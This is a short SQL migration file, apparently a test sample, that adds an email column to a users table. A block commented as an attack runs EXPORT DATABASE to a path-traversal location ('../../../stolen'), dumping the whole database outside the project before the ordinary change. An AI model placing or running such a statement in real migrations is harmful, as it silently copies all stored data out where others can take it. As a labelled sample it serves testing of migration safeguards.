-- writes the whole database somewhere
-- migrate:up
-- attack
EXPORT DATABASE '../../../stolen';
-- end attack
ALTER TABLE users ADD COLUMN email VARCHAR;

-- migrate:down
ALTER TABLE users DROP COLUMN email;
